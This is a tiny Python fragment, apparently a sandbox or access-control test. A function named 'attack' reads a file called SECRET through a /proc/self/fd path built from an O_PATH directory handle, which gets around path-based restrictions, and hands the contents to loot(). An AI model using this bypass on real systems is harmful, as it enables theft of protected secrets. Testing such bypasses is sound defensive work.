@at_once
def attack():
    folder = os.open(os.path.dirname(SECRET), os.O_PATH)
    loot(open(f'/proc/self/fd/{folder}/{os.path.basename(SECRET)}').read())
